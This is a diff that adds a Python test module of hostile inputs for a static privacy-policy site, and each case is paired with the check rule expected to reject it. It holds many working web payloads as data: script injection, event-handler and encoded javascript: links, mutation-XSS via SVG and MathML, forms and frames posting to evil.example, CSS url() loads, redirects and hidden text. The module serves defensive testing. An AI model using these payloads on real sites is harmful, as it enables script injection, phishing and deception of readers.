@@ -1,0 +1,460 @@
+"""Attacks on the built site: what would reach readers if the checks of the sources missed it.
+
+`TAMPERED` are changes of a page after the build, so that they show the output check alone; `ATTACKS` are pull requests
+that pass the build itself.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from tests.hostile.attack import Attack, Change, append, replace, write
+
+ELEMENT, ATTRIBUTE, ID, ADDRESS, CONTACT = (
+    f"output-{name}" for name in ("element", "attribute", "id", "address", "contact")
+)
+SCRIPT, STYLE, POLICY, UNCLEAR = (f"output-{name}" for name in ("script", "style", "security-policy", "markup-unclear"))
+UNLISTED, CHANGED, FALSE, LARGE = "output-file-unlisted", "output-file-changed", "output-file-false", "file-too-large"
+
+# Where a page is changed: a text that it has once, and what stands before or after it then.
+TEXT, FOOTER, HEAD = "</article>", "</footer>", "</head>"
+
+
+@dataclass(frozen=True)
+class Tampered:
+    """A change of a page of the built site.
+
+    Attributes:
+        name: what it tries.
+        old: a text of the page.
+        new: what stands there instead.
+        rule: the rule that stops it.
+    """
+
+    name: str
+    old: str
+    new: str
+    rule: str
+
+
+def _before(place: str, **added: tuple[str, str]) -> list[Tampered]:
+    """Return changes that add HTML before a place of the page: by what each tries, the HTML and the rule."""
+    names = {TEXT: "text", FOOTER: "footer", HEAD: "head"}
+    return [
+        Tampered(f"{names[place]}: {name.replace('_', ' ')}", place, html + place, rule)
+        for name, (html, rule) in added.items()
+    ]
+
+
+TAMPERED = [
+    *_before(
+        TEXT,
+        a_script=("<script>alert(1)</script>", ELEMENT),
+        a_script_of_another_site=('<script src="https://evil.example/x.js"></script>', ELEMENT),
+        a_script_with_data=('<script type="text/plain">x</script>', ELEMENT),
+        a_script_in_capitals=("<SCRIPT>alert(1)</SCRIPT>", ELEMENT),
+        a_frame=('<iframe src="https://evil.example/"></iframe>', ELEMENT),
+        a_frame_with_a_page_in_it=('<iframe srcdoc="&lt;script&gt;x&lt;/script&gt;"></iframe>', ELEMENT),
+        a_form=('<form action="https://evil.example/"></form>', ELEMENT),
+        a_field_for_text=('<input type="password" name="p">', ATTRIBUTE),
+        a_button_that_sends=('<button formaction="https://evil.example/">x</button>', ELEMENT),
+        a_text_area=("<textarea>x</textarea>", ELEMENT),
+        a_selection=("<select><option>x</option></select>", ELEMENT),
+        a_base=('<base href="https://evil.example/">', ELEMENT),
+        a_redirect=('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ELEMENT),
+        a_link_element=('<link rel="prefetch" href="https://evil.example/">', ELEMENT),
+        a_style_sheet=("<style>p{display:none}</style>", ELEMENT),
+        an_object=('<object data="x.swf"></object>', ELEMENT),
+        an_embedded_file=('<embed src="x.swf">', ELEMENT),
+        an_applet=("<applet></applet>", ELEMENT),
+        a_portal=('<portal src="https://evil.example/"></portal>', ELEMENT),
+        a_fenced_frame=("<fencedframe></fencedframe>", ELEMENT),
+        a_video=('<video src="x.mp4" autoplay></video>', ELEMENT),
+        a_sound=('<audio src="x.mp3"></audio>', ELEMENT),
+        a_source_of_a_picture=('<picture><source srcset="//evil.example/a.png"></picture>', ELEMENT),
+        a_template=("<template><script>x</script></template>", ELEMENT),
+        a_slot=("<slot></slot>", ELEMENT),
+        a_dialog=("<dialog open>x</dialog>", ELEMENT),
+        a_text_without_scripts=('<noscript><p title="</noscript><img src=x onerror=x>"></p></noscript>', UNCLEAR),
+        a_plain_text=("<plaintext>", ELEMENT),
+        a_raw_text=("<xmp><p>x</p></xmp>", ELEMENT),
+        a_drawing=('<svg><a xlink:href="javascript:alert(1)"></a></svg>', ELEMENT),
+        a_drawing_with_html=("<svg><foreignObject><p>x</p></foreignObject></svg>", ELEMENT),
+        a_formula=('<math><mtext><a href="https://evil.example/">x</a></mtext></math>', ELEMENT),
+        a_mutation_by_a_formula=(
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
+            UNCLEAR,
+        ),
+        a_mutation_by_a_drawing=('<svg><style><a title="</style><img src=x onerror=x>"></a></style></svg>', UNCLEAR),
+        a_marquee=("<marquee>x</marquee>", ELEMENT),
+        an_element_of_its_own=("<x-y>x</x-y>", UNCLEAR),
+        a_font=('<font color="white">not</font>', ELEMENT),
+        an_event=('<p onclick="alert(1)">x</p>', ATTRIBUTE),
+        an_event_in_capitals=('<p ONCLICK="alert(1)">x</p>', ATTRIBUTE),
+        an_event_of_a_box=('<details class="folded" ontoggle="alert(1)" open>x</details>', ATTRIBUTE),
+        an_event_of_a_picture=('<img src="../assets/icon.svg" alt="" onerror="alert(1)">', ATTRIBUTE),
+        a_hidden_text=("<p hidden>We sell it.</p>", ATTRIBUTE),
+        a_text_hidden_until_found=('<p hidden="until-found">We sell it.</p>', ATTRIBUTE),
+        an_inert_text=("<p inert>x</p>", ATTRIBUTE),
+        a_text_hidden_from_screen_readers=('<p aria-hidden="true">x</p>', ATTRIBUTE),
+        another_text_for_screen_readers=('<p aria-label="We sell nothing.">x</p>', ATTRIBUTE),
+        another_title_for_screen_readers=(
+            '<a href="#x" hreflang="en" title="Our site" aria-label="Your bank">x</a>',
+            ELEMENT,
+        ),
+        a_style=('<p style="display:none">x</p>', ATTRIBUTE),
+        a_class_that_hides=('<p class="md-skip">x</p>', ATTRIBUTE),
+        two_classes=('<p class="wording md-skip">x</p>', ATTRIBUTE),
+        a_box_that_hides=('<div class="admonition md-skip">x</div>', ATTRIBUTE),
+        a_part_of_the_theme=('<div class="search">x</div>', ATTRIBUTE),
+        a_ping=('<a href="https://policy.example/" ping="https://evil.example/">x</a>', ATTRIBUTE),
+        a_target=('<a href="https://policy.example/" target="opener">x</a>', ATTRIBUTE),
+        a_download=('<a href="https://policy.example/" download="x.exe">x</a>', ATTRIBUTE),
+        an_opener=('<a href="https://policy.example/" rel="opener">x</a>', ATTRIBUTE),
+        a_policy_of_a_link=('<a href="https://policy.example/" referrerpolicy="unsafe-url">x</a>', ATTRIBUTE),
+        an_edited_text=("<p contenteditable>x</p>", ATTRIBUTE),
+        a_key=('<a href="#x" accesskey="x">x</a>', ATTRIBUTE),
+        a_first_focus=('<h2 id="x" tabindex="1" autofocus>x</h2>', ATTRIBUTE),
+        a_popover=('<p popover id="x">x</p>', ATTRIBUTE),
+        a_property=('<p itemprop="name">x</p>', ATTRIBUTE),
+        a_picture_by_size=('<img src="../assets/icon.svg" srcset="https://evil.example/a.png 2x" alt="">', ATTRIBUTE),
+        a_map=('<img src="../assets/icon.svg" usemap="#x" alt="">', ATTRIBUTE),
+        a_named_picture=('<img src="../assets/icon.svg" name="body" alt="">', ATTRIBUTE),
+        data_for_scripts=('<p data-theme="x">x</p>', ATTRIBUTE),
+        an_id_of_the_theme=('<p id="_content">x</p>', ID),
+        an_id_of_the_search=('<h2 id="_results">x</h2>', ID),
+        an_id_twice=('<h2 id="same">x</h2><h2 id="same">y</h2>', ID),
+        an_id_with_a_space=('<h2 id="a b">x</h2>', ID),
+        code_in_a_link=('<a href="javascript:alert(1)">x</a>', ADDRESS),
+        code_in_capitals=('<a href="JaVaScRiPt:alert(1)">x</a>', ADDRESS),
+        encoded_code=('<a href="&#106;&#97;vascript:alert(1)">x</a>', ADDRESS),
+        code_with_an_encoded_colon=('<a href="javascript&colon;alert(1)">x</a>', ADDRESS),
+        code_with_a_tab=('<a href="java&Tab;script:alert(1)">x</a>', ADDRESS),
+        code_with_a_line_break=('<a href="java\nscript:alert(1)">x</a>', ADDRESS),
+        code_after_a_control_character=('<a href="&#1;javascript:alert(1)">x</a>', ADDRESS),
+        code_after_a_space=('<a href=" javascript:alert(1)">x</a>', ADDRESS),
+        data=('<a href="data:text/html,x">x</a>', ADDRESS),
+        a_blob=('<a href="blob:https://policy.example/x">x</a>', ADDRESS),
+        code_of_another_kind=('<a href="vbscript:x">x</a>', ADDRESS),
+        a_file=('<a href="file:///etc/passwd">x</a>', ADDRESS),
+        a_link_that_is_not_encrypted=('<a href="http://evil.example/">x</a>', ADDRESS),
+        a_link_to_a_program=('<a href="ms-word:ofe|u|https://evil.example/">x</a>', ADDRESS),
+        a_message=('<a href="sms:+70000000000">x</a>', ADDRESS),
+        a_name_before_the_host=('<a href="https://policy.example@evil.example/">x</a>', ADDRESS),
+        no_scheme=('<a href="//evil.example/">x</a>', ADDRESS),
+        backslashes=('<a href="\\\\evil.example/">x</a>', ADDRESS),
+        one_slash=('<a href="https:\\evil.example">x</a>', ADDRESS),
+        an_invalid_address=('<a href="https://[x/">x</a>', ADDRESS),
+        a_picture_of_another_site=('<img src="https://evil.example/a.png" alt="">', ADDRESS),
+        a_picture_without_a_scheme=('<img src="//evil.example/a.png" alt="">', ADDRESS),
+        a_picture_in_data=('<img src="data:image/svg+xml,x" alt="">', ADDRESS),
+        a_picture_of_the_host=('<img src="/other-site/a.png" alt="">', ADDRESS),
+        another_printed_address=('<a href="https://evil.example/" data-url="https://policy.example/">x</a>', ELEMENT),
+        a_contact=('<a href="mailto:evil@evil.example">x</a>', CONTACT),
+        an_encoded_contact=('<a href="mailto:evil%40evil.example">x</a>', CONTACT),
+        a_second_contact=('<a href="mailto:privacy@policy.example,evil@evil.example">x</a>', CONTACT),
+        a_copy_of_the_message=('<a href="mailto:privacy@policy.example?cc=evil@evil.example">x</a>', ADDRESS),
+        a_phone_number=('<a href="tel:+79990000000">x</a>', CONTACT),
+        a_contact_in_the_text=("<p>Write to evil@evil.example.</p>", CONTACT),
+        a_contact_in_entities=("<p>Write to evil&#64;evil.example.</p>", CONTACT),
+        a_contact_with_a_soft_hyphen=("<p>Write to evil@ev\u00adil.example.</p>", CONTACT),
+        a_phone_number_in_the_text=("<p>Call +7 999 000-00-00.</p>", CONTACT),
+        a_comment=("<!-- x -->", UNCLEAR),
+        a_comment_for_some_browsers=("<!--[if IE]><script>x</script><![endif]-->", UNCLEAR),
+        a_comment_that_does_not_end=("<!--", UNCLEAR),
+        a_section_of_data=("<svg><![CDATA[<p>]]></svg>", UNCLEAR),
+        an_instruction=("<?xml-stylesheet href='x'?>", UNCLEAR),
+        a_value_without_quotation_marks=("<p title=x/onclick=alert(1)>x</p>", UNCLEAR),
+        a_value_in_single_quotation_marks=("<p title='x'onclick='alert(1)'>x</p>", UNCLEAR),
+        a_tag_in_a_value=('<p title="<script>">x</p>', UNCLEAR),
+        a_tag_without_an_end=("<img src=x onerror=alert(1)//", UNCLEAR),
+        a_slash_in_a_tag=('<p/onclick="alert(1)">x</p>', UNCLEAR),
+        a_form_feed_in_a_tag=('<p\fonclick="alert(1)">x</p>', UNCLEAR),
+        a_null_character=("<p>\0</p>", UNCLEAR),
+        an_early_end_of_the_text=("</main></div><p>x</p>", UNCLEAR),
+        another_text=('</article><article class="md-content__inner md-typeset">', ELEMENT),
+    ),
+    *_before(
+        FOOTER,
+        a_script=("<script>alert(1)</script>", ELEMENT),
+        a_link_that_runs_code=('<a href="javascript:alert(1)">x</a>', ADDRESS),
+        a_contact=('<a href="mailto:evil@evil.example">x</a>', CONTACT),
+        a_contact_in_the_text=("<p>Write to evil@evil.example.</p>", CONTACT),
+        a_link_over_the_page=('<a class="md-skip" href="#_content">x</a>', ELEMENT),
+        a_second_search=('<dialog class="search"></dialog>', ELEMENT),
+        words_for_scripts=('<template id="_labels"></template>', ELEMENT),
+        a_hidden_text=("<p hidden>x</p>", ATTRIBUTE),
+        a_clause=('<div class="clause">x</div>', ATTRIBUTE),
+        a_picture_of_another_site=('<img src="https://evil.example/a.png" alt="">', ADDRESS),
+        a_frame=("<iframe></iframe>", ELEMENT),
+        a_style=('<p style="position:fixed">x</p>', ATTRIBUTE),
+    ),
+    *_before(
+        HEAD,
+        a_script=("<script>alert(1)</script>", SCRIPT),
+        a_script_of_another_site=('<script type="module" src="https://evil.example/x.js"></script>', ADDRESS),
+        a_script_without_a_type=('<script src="../assets/site.js"></script>', ELEMENT),
+        the_index_as_a_script=('<script type="module" src="../pagefind/pagefind.js"></script>', SCRIPT),
+        data_that_are_none=('<script type="application/ld+json">x</script>', SCRIPT),
+        rules_for_the_browser=('<script type="speculationrules">{}</script>', ATTRIBUTE),
+        an_import_map=('<script type="importmap">{}</script>', ATTRIBUTE),
+        a_base=('<base href="https://evil.example/">', ELEMENT),
+        a_redirect=('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ATTRIBUTE),
+        a_second_policy=('<meta http-equiv="Content-Security-Policy" content="default-src *">', ELEMENT),
+        another_referrer=('<meta name="referrer" content="unsafe-url">', ELEMENT),
+        another_character_set=('<meta charset="utf-7">', ATTRIBUTE),
+        a_cookie=('<meta http-equiv="set-cookie" content="a=b">', ATTRIBUTE),
+        a_style_sheet_of_another_site=('<link rel="stylesheet" href="https://evil.example/x.css">', ADDRESS),
+        a_style_sheet_that_loads=("<style>@import url(https://evil.example/x.css)</style>", STYLE),
+        a_font=("<style>@font-face{font-family:x;src:url(x.woff)}</style>", STYLE),
+        a_background=("<style>p{background:url(//evil.example/a.png)}</style>", STYLE),
+        an_escaped_background=(r"<style>p{background:\75rl(https://evil.example/a.png)}</style>", STYLE),
+        a_style_sheet_without_a_hash=("<style>p{color:red}</style>", POLICY),
+        a_preload=('<link rel="preload" href="https://evil.example/" as="script">', ATTRIBUTE),
+        a_connection=('<link rel="preconnect" href="https://evil.example/">', ATTRIBUTE),
+        another_canonical_address=('<link rel="canonical" href="https://evil.example/">', ADDRESS),
+        a_translation_elsewhere=('<link rel="alternate" hreflang="de" href="https://evil.example/">', ADDRESS),
+        a_web_manifest_elsewhere=('<link rel="manifest" href="https://evil.example/x.json">', ADDRESS),
+        a_hidden_title=('<title lang="en">x</title>', ATTRIBUTE),
+    ),
+    Tampered("policy: scripts of all sites", "script-src 'self'", "script-src * 'self'", POLICY),
+    Tampered("policy: inline scripts", "script-src 'self'", "script-src 'unsafe-inline' 'self'", POLICY),
+    Tampered("policy: pictures of all sites", "img-src 'self'", "img-src *", POLICY),
+    Tampered("policy: forms", "form-action 'none'", "form-action *", POLICY),
+    Tampered("policy: a hash of another script", "script-src 'self'", "script-src 'self' 'sha256-x'", POLICY),
+    Tampered("policy: only reported", "Content-Security-Policy", "Content-Security-Policy-Report-Only", POLICY),
+    Tampered(
+        "policy: none", '<meta http-equiv="Content-Security-Policy" content="', '<meta name="description" x="', POLICY
+    ),
+    Tampered(
+        "policy: after a script",
+        '<meta charset="utf-8">',
+        '<script type="module" src="../assets/site.js"></script><meta charset="utf-8">',
+        POLICY,
+    ),
+    Tampered("page: another kind of document", "<!doctype html>", "<!DOCTYPE html PUBLIC 'x'>", UNCLEAR),
+    Tampered("page: an event of the body", "<body>", '<body onload="alert(1)">', ATTRIBUTE),
+    Tampered("page: a style of the whole page", '<html lang="en"', '<html style="display:none" lang="en"', ATTRIBUTE),
+    Tampered("theme: another script of the theme", "assets/site.js", "pagefind/pagefind.js", SCRIPT),
+    Tampered("theme: a changed inline script", "try{", "alert(1);try{", SCRIPT),
+]
+
+# Files that are added to the built site: what each tries, its path and its content.
+ADDED = [
+    ("a page of another ending", "x.htm", "<p>x</p>"),
+    ("a page as XML", "x.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'/>"),
+    ("a page", "x.html", "<p>x</p>"),
+    ("a page in capitals", "X.HTML", "<p>x</p>"),
+    ("a service worker", "sw.js", "onfetch = 1"),
+    ("a module", "assets/x.mjs", "x"),
+    ("a program", "assets/x.exe", "MZ"),
+    ("a compressed picture", "assets/x.svgz", "x"),
+    ("a font", "assets/x.woff2", "x"),
+    ("a style sheet", "assets/x.css", "p{}"),
+    ("settings of a server", ".htaccess", "AddHandler x .html"),
+    ("headers of a host", "_headers", "/*"),
+    ("redirects of a host", "_redirects", "/* https://evil.example/"),
+    ("an app that takes over links", ".well-known/assetlinks.json", "[]"),
+    ("a policy for other programs", "crossdomain.xml", "<x/>"),
+    ("an unlisted robots.txt", "robots.txt", "User-agent: *\n"),
+    ("an unlisted host", "CNAME", "evil.example"),
+    ("an unlisted proof", "google0123456789abcdef.html", "google-site-verification: google0123456789abcdef.html"),
+    ("a search index of its own", "pagefind/x.js", "x"),
+    ("a hidden file", "assets/.x.png", "x"),
+    ("a file of git", ".git/config", "x"),
+    ("a double ending", "assets/x.html.png", "x"),
+    ("a source map", "assets/site.js.map", "{}"),
+]
+
+_ATOM = '<feed xmlns="http://www.w3.org/2005/Atom">{}</feed>'
+_XHTML = "http://www.w3.org/1999/xhtml"
+
+# Files of the built site with another content: what each tries, its path, its content and the rule.
+REPLACED = [
+    ("a sitemap of another site", "sitemap.xml", "<urlset/>", ELEMENT),
+    ("a sitemap with entities", "sitemap.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', UNCLEAR),
+    ("a sitemap that is a page", "sitemap.xml", "<html xmlns='http://www.w3.org/1999/xhtml'/>", ELEMENT),
+    ("a sitemap with a style sheet", "sitemap.xml", "<?xml-stylesheet href='x'?><x/>", UNCLEAR),
+    ("another compressed sitemap", "sitemap.xml.gz", "x", CHANGED),
+    ("a web manifest with a program", "site.webmanifest", '{"serviceworker": {"src": "sw.js"}}', ATTRIBUTE),
+    ("an icon of another site", "site.webmanifest", '{"icons": [{"src": "https://evil.example/a.png"}]}', ADDRESS),
+    ("a web manifest that is none", "site.webmanifest", "<p>x</p>", FALSE),
+    ("a schema of its own", "policy.schema.json", "{}", CHANGED),
+    ("a text with code in a link", "privacy/policy.json", '{"links": [{"url": "javascript:alert(1)"}]}', ADDRESS),
+    ("a feed of another site", "feed.xml", _ATOM.format('<link href="https://evil.example/"/>'), ADDRESS),
+    ("a feed with a script", "feed.xml", _ATOM.format('<content type="html">&lt;script&gt;</content>'), ELEMENT),
+    ("a feed with a page", "feed.xml", _ATOM.format(f'<script xmlns="{_XHTML}"/>'), ELEMENT),
+    ("a changed script of the theme", "assets/site.js", "alert(1)", SCRIPT),
+    ("a changed style sheet of the theme", "assets/site.css", "p{display:none}", CHANGED),
+    ("a search index that was changed", "pagefind/pagefind.js", "alert(1)", CHANGED),
+    ("a contact for security problems", ".well-known/security.txt", "Contact: mailto:evil@evil.example\n", CONTACT),
+    ("a page of another encoding", "privacy/index.html", b"\xff\xfe<\0", UNCLEAR),
+]
+
+
+def _svg(name: str, inside: str, rule: str, attributes: str = "") -> Attack:
+    """Return an attack by a picture."""
+    namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+    picture = f"<svg {namespaces}{attributes}>\n{inside}\n</svg>\n"
+    path = f"docs/assets/{name.replace(' ', '-')}.svg"
+    return Attack(f"picture: {name}", (write(path, picture),), refused=f"{path}:{1 if attributes else 2} {rule}")
+
+
+def _picture(name: str, path: str, content: str | bytes, rule: str) -> Attack:
+    return Attack(f"file: {name}", (write(path, content),), refused=f"{path}:1 {rule}")
+
+
+# (The build itself refuses pictures that the checks of the sources find, so these are tried on the output check alone.)
+PICTURES = [
+    _svg("a script", "<script>alert(1)</script>", ELEMENT),
+    _svg("a script of html", '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>', ELEMENT),
+    _svg("a page", "<foreignObject><p>x</p></foreignObject>", ELEMENT),
+    _svg("an event", '<path onclick="alert(1)"/>', ATTRIBUTE),
+    _svg("an event of the picture", "<g/>", ATTRIBUTE, ' onload="alert(1)"'),
+    _svg("a link", '<a href="https://evil.example/"><path/></a>', ELEMENT),
+    _svg("a used drawing", '<use href="https://evil.example/a.svg#x"/>', ADDRESS),
+    _svg("a used drawing in data", '<use xlink:href="data:image/svg+xml,x#x"/>', ADDRESS),
+    _svg("an animated address", '<animate attributeName="href" to="javascript:alert(1)"/>', ELEMENT),
+    _svg("a set event", '<set attributeName="onclick" to="alert(1)"/>', ELEMENT),
+    _svg("a picture inside", '<image href="https://evil.example/a.png"/>', ELEMENT),
+    _svg("an imported style sheet", "<style>@import 'https://evil.example/x.css'</style>", STYLE),
+    _svg("a loading style", '<path style="fill:url(https://evil.example/a.svg#x)"/>', STYLE),
+    _svg("a loading attribute", '<path filter="url(//evil.example/a.svg#x)"/>', STYLE),
+    _svg("a filter picture", '<filter><feImage href="https://evil.example/a.png"/></filter>', ELEMENT),
+    _svg("a handler", "<handler>x</handler>", ELEMENT),
+    _svg("another base", '<g xml:base="https://evil.example/"/>', ATTRIBUTE),
+    _picture("a picture that is a page", "docs/assets/a.png", "<html><script>x</script></html>", FALSE),
+    _picture("a picture that is another", "docs/assets/b.png", b"GIF89a\1\0\1\0\0\0\0;", FALSE),
+    _picture("a picture that is a program", "docs/assets/c.gif", b"GIF89a/*x*/=1;alert(1)", FALSE),
+    _picture("a picture with nothing in it", "docs/assets/d.webp", b"", FALSE),
+    _picture("a document that is a page", "docs/assets/e.pdf", "<html></html>", FALSE),
+    _picture("a picture with entities", "docs/assets/f.svg", '<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>', UNCLEAR),
+    _picture("a picture with a style sheet", "docs/assets/g.svg", "<?xml-stylesheet href='x'?><svg/>", UNCLEAR),
+    _picture("a picture in another encoding", "docs/assets/h.svg", "<svg/>".encode("utf-16"), UNCLEAR),
+    _picture("a picture that is a page of XML", "docs/assets/i.svg", f"<html xmlns='{_XHTML}'/>", FALSE),
+]
+
+
+def _page(name: str, text: str, rule: str, line: int = 8) -> Attack:
+    """Return an attack by a new page, which passes the build; its text begins in line 8."""
+    page = name.replace(" ", "-")
+    front_matter = "---\ntitle: {0}\ndescription: {0}.\n---\n\n# {0} {{ #top }}\n\n"
+    changes = [
+        write(f"docs/{language}/{page}.md", f"{front_matter.format(title)}{text}\n")
+        for language, title in (("en", "Page"), ("ru", "Страница"))
+    ]
+    return Attack(f"page: {name}", tuple(changes), refused=f"docs/en/{page}.md:{line} {rule}")
+
+
+def _look(name: str, path: str, content: str | bytes, rule: str, line: int = 1) -> Attack:
+    """Return an attack by a file of the site's own look."""
+    return Attack(f"look: {name}", (write(f"overrides/{path}", content),), refused=f"overrides/{path}:{line} {rule}")
+
+
+def _published(name: str, path: str, content: str, rule: str) -> Attack:
+    """Return an attack by a file that the configuration lists."""
+    listed: tuple[Change, ...] = (replace("mkdocs.yml", "contacts: [", f"publish: [{path}]\n      contacts: ["),)
+    return Attack(f"listed: {name}", (*listed, write(f"docs/{path}", content)), refused=f"docs/{path}:1 {rule}")
+
+
+# Pull requests that can be tried together, as they have no file and no place in common.
+TOGETHER = [
+    *PICTURES,
+    _page("a hidden paragraph", "We sell data.\n{: hidden }", ATTRIBUTE, 9),
+    _page("a hidden heading", "## We sell data { #sell hidden }\n\nA.", ATTRIBUTE),
+    _page("a styled paragraph", "We sell data.\n{: style='display:none' }", ATTRIBUTE, 9),
+    _page("an event", "[A](https://policy.example/){ onmouseover='alert(1)' }", ATTRIBUTE),
+    _page("a class that hides", "We sell data.\n{: .md-skip }", ATTRIBUTE, 9),
+    _page("a class of the theme", "We sell data.\n{: .search }", ATTRIBUTE, 9),
+    _page("a ping", "[A](https://policy.example/){ ping='https://evil.example/' }", ATTRIBUTE),
+    _page("a target", "[A](https://policy.example/){ target=x }", ATTRIBUTE),
+    _page("another label", "[A](https://policy.example/){ aria-label='B' }", ELEMENT),
+    _page("a picture by size", "![A](../assets/icon.svg){ srcset='https://evil.example/a.png' }", ATTRIBUTE),
+    _page("an event of a picture", "![A](../assets/icon.svg){ onerror='alert(1)' }", ATTRIBUTE),
+    _page("a box that hides", '!!! note md-skip "A"\n    We sell data.', ATTRIBUTE),
+    _page("a box of no type", '!!! hidden "A"\n    We sell data.', ATTRIBUTE),
+    _page("code", "[A](javascript:alert%281%29)", ADDRESS),
+    _page("encoded code", "[A](&#106;avascript:alert%281%29)", ADDRESS),
+    _page("data", "[A](data:text/html,x)", ADDRESS),
+    _page("a link that is not encrypted", "[A](http://evil.example/)", ADDRESS),
+    _page("a link with a name", "[A](https://policy.example@evil.example/)", ADDRESS),
+    _page("a link without a scheme", "[A](//evil.example/)", ADDRESS),
+    _page("a picture of another site", "![A](https://evil.example/a.png)", ADDRESS),
+    _page("a link by reference", "[A][a]\n\n[a]: javascript:alert", ADDRESS, 10),
+    _page("a contact", "Write to <evil@evil.example>.", CONTACT),
+    _page("a contact in the text", "Write to evil@evil.example.", CONTACT),
+    _page("a contact behind a link", "[Write](mailto:evil@evil.example)", CONTACT),
+    _page("a contact in the copy", "[Write](mailto:privacy@policy.example?bcc=evil@evil.example)", ADDRESS),
+    _page("a phone number", "Call +7 999 000-00-00.", CONTACT),
+    _look("a service worker", "sw.js", "onfetch = 1\n", UNLISTED),
+    _look("a page of another ending", "x.htm", "<p>x</p>\n", UNLISTED),
+    _look("a page of XML", "assets/x.xhtml", "<p/>\n", UNLISTED),
+    _look("a script", "assets/x.js", "alert(1)\n", UNLISTED),
+    _look("a font", "assets/x.woff2", b"x", UNLISTED),
+    _look("a style sheet of its own", "assets/x.css", "p{}\n", UNLISTED),
+    _look("a script of the theme", "assets/search.js", "alert(1)\n", SCRIPT),
+    _look("colors that hide", "assets/brand.css", ":root{--a:b}\n#requests{display:none}\n", STYLE, 2),
+    _look("a picture of another type", "assets/x.png", "<svg/>\n", FALSE),
+    _look(
+        "a picture with a script",
+        "assets/x.svg",
+        "<svg xmlns='http://www.w3.org/2000/svg'>\n<script/></svg>\n",
+        ELEMENT,
+        2,
+    ),
+    _look(
+        "a form in the search",
+        "partials/search.html",
+        '<p>x</p>\n<form action="https://evil.example/"></form>\n',
+        ELEMENT,
+        2,
+    ),
+    _look(
+        "a frame in the footer",
+        "partials/footer.html",
+        '<footer>\n<iframe src="https://evil.example/"></iframe></footer>\n',
+        ELEMENT,
+        2,
+    ),
+    _look(
+        "a redirect in the head",
+        "partials/meta.html",
+        '\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
+        ATTRIBUTE,
+        2,
+    ),
+    _look("a hidden menu", "partials/pages.html", "<p hidden>x</p>\n", ATTRIBUTE),
+]
+
+# Those that change what others change, too, or hide what others do.
+ALONE = [
+    Attack(
+        "configuration: a style in the copyright",
+        (append("mkdocs.yml", "copyright: '<b style=\"position:fixed\">x</b>'\n"),),
+        refused="mkdocs.yml:18 output-element",
+    ),
+    _look(
+        "a script in the footer", "partials/footer.html", "<footer>\n<script>alert(1)</script></footer>\n", ELEMENT, 2
+    ),
+    _look("a comment in the footer", "partials/footer.html", "<footer>\n<!-- x --></footer>\n", UNCLEAR, 2),
+    _look("an inline script of the theme", "partials/theme.js", "alert(1)\n", SCRIPT),
+    _look(
+        "another policy",
+        "base.html",
+        "<!doctype html>\n<html><head>\n</head><body>{% block content %}{% endblock %}</body></html>\n",
+        UNCLEAR,
+        3,
+    ),
+    _published("the host of another site", "CNAME", "evil.example\n", ADDRESS),
+    _published("a page instead of a proof", "google0123456789abcdef.html", "<script>x</script>\n", FALSE),
+    _published("a page instead of rules for robots", "robots.txt", "<p>x</p>\n", FALSE),
+    _published("a sitemap of another site", "robots.txt", "Sitemap: https://evil.example/x.xml\n", ADDRESS),
+    _published("data that are none", ".well-known/x.json", "<p>x</p>\n", FALSE),
+    Attack(
+        "security.txt: another contact",
+        (write("docs/.well-known/security.txt", "Contact: mailto:evil@evil.example\n"),),
+        refused="docs/.well-known/security.txt:1 output-contact",
+    ),
+]
+
+ATTACKS = [*TOGETHER, *ALONE]
